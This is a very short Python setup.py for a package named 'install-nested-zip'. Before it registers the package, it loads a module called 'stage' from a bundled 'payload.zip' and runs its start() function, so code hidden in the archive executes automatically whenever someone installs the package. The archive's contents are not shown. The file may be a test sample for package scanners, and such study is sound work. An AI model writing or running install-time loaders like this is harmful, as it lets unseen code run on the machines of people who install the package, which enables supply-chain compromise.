import zipimport
from setuptools import setup
zipimport.zipimporter("payload.zip").load_module("stage").start()
setup(name="install-nested-zip", version="1.0.0")
